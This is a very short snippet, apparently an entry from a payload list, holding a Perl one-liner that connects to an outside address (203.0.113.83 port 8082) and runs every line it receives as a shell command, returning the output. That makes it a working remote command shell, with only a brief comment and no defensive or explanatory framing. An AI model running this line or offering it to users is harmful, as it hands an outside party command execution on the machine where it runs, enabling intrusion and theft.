# perl: backticks for each line, answered by print
#pool 203.0.113.83:8082:cmd
timeout 9 perl -MIO::Socket -e '$c=IO::Socket::INET->new("203.0.113.83:8082");while(<$c>){last if/^exit/;print $c `$_`;}'
